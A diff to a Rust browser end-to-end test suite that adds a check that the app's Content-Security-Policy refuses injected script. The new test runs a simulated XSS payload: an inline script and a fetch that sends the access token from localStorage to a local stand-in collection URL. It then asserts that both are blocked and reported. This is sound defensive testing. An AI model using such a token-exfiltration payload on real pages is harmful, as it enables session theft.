@@ -170,7 +170,8 @@ async fn renewal_story(stack: &Stack, browser: &mut Browser) -> Result<(), Failu
     browser.screenshot("second-tab-logged-out").await?;
     browser.client.close_window().await?;
     browser.client.switch_to_window(first_tab).await?;
-    Ok(())
+    // Renewal in two tabs, under the shipped policy, broke none of it.
+    traffic.expect_no_csp_violations("renewal in two tabs")
 }
 
 async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
@@ -233,7 +234,13 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
         .into());
     }
 
-    // 4. The three calls each show their message.
+    // 4. Script injected into the page is refused by the shipped Content-Security-Policy: an
+    //    inline script never runs and a request to a foreign origin never leaves, and the
+    //    browser reports both. Until now the app itself caused no violation.
+    stack.traffic.expect_no_csp_violations("login")?;
+    csp_refuses_injected_script(stack, browser).await?;
+
+    // 5. The three calls each show their message.
     browser.click_link("Ping").await?;
     browser
         .wait_for("the Ping heading", &exact_text("Make a Call to the Server"))
@@ -250,7 +257,7 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
     }
     browser.screenshot("ping-reader").await?;
 
-    // 5. The profile shows who is logged in.
+    // 6. The profile shows who is logged in.
     browser.click_link("Profile").await?;
     for shown in ["reader", "reader@example.com"] {
         let outside_json = format!(
@@ -263,7 +270,7 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
     }
     browser.screenshot("profile").await?;
 
-    // 6. Log Out clears the session here and at the tenant.
+    // 7. Log Out clears the session here and at the tenant.
     log_out(stack, browser).await?;
     browser.screenshot("logged-out").await?;
     if !browser
@@ -285,7 +292,7 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
         return Err("Call Private API can still be pressed after logout".into());
     }
 
-    // 7. A user without read:messages: the private call works, the scoped one says why it does not.
+    // 8. A user without read:messages: the private call works, the scoped one says why it does not.
     browser.client.goto(&home).await?;
     log_in(stack, browser, "guest@example.com").await?;
     browser
@@ -309,7 +316,7 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
     browser.screenshot("ping-guest-insufficient-scope").await?;
     log_out(stack, browser).await?;
 
-    // 8. A forged callback shows an error and stores nothing.
+    // 9. A forged callback shows an error and stores nothing.
     browser
         .client
         .goto(&format!(
@@ -326,7 +333,73 @@ async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
             return Err(format!("a forged callback stored {key} ({} chars)", value.len()).into());
         }
     }
-    Ok(())
+    stack
+        .traffic
+        .expect_only_csp_violations(injected_violation, "the story")
+}
+
+/// What the injected script does when it runs, which the policy must prevent.
+const INJECTED_MARK: &str = "__injected_script_ran";
+/// A foreign origin an injected script tries to send the access token to (nothing listens on
+/// the discard port; the policy must stop the request before it is attempted).
+const EXFILTRATION_URL: &str = "http://127.0.0.1:9/collect";
+
+/// Injects what an XSS payload would into the logged-in page: an inline `<script>` that marks
+/// the window, and a `fetch` of the access token to a foreign origin. Both must be refused, as
+/// violations the page observes (`securitypolicyviolation`) and the browser reports to the
+/// policy's `report-uri`, and nothing else may be reported.
+async fn csp_refuses_injected_script(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
+    let reported_before = Traffic::read(&stack.traffic.csp_violations);
+    browser
+        .client
+        .execute(
+            &format!(
+                r#"window.__csp_seen = [];
+document.addEventListener("securitypolicyviolation",
+  (event) => window.__csp_seen.push(event.effectiveDirective));
+const script = document.createElement("script");
+script.textContent = "window.{INJECTED_MARK} = true;";
+document.body.appendChild(script);
+window.__exfiltration = "pending";
+fetch("{EXFILTRATION_URL}?t=" + localStorage.getItem("access_token"))
+  .then(() => {{ window.__exfiltration = "sent"; }},
+        () => {{ window.__exfiltration = "refused"; }});"#
+            ),
+            vec![],
+        )
+        .await?;
+    browser
+        .wait_until("the page to see both violations", || async {
+            let seen = browser
+                .client
+                .execute("return [window.__csp_seen, window.__exfiltration];", vec![])
+                .await?;
+            let directives = seen[0].as_array().cloned().unwrap_or_default();
+            let saw = |directive: &str| directives.iter().any(|seen| seen == directive);
+            Ok(saw("script-src-elem") && saw("connect-src") && seen[1] == "refused")
+        })
+        .await?;
+    let ran = browser
+        .client
+        .execute(&format!("return window.{INJECTED_MARK} === true;"), vec![])
+        .await?;
+    if ran != serde_json::Value::Bool(false) {
+        return Err("an injected inline script ran despite the Content-Security-Policy".into());
+    }
+    browser
+        .wait_until("the browser to report both violations", || async {
+            Ok(Traffic::read(&stack.traffic.csp_violations) >= reported_before + 2)
+        })
+        .await?;
+    stack
+        .traffic
+        .expect_only_csp_violations(injected_violation, "the injection")
+}
+
+/// Whether a CSP report is about what [`csp_refuses_injected_script`] injected.
+fn injected_violation(report: &str) -> bool {
+    report.starts_with("script-src-elem refused inline")
+        || report.starts_with("connect-src refused http://127.0.0.1:9/")
 }
 
 async fn log_in(stack: &Stack, browser: &mut Browser, email: &str) -> Result<(), Failure> {
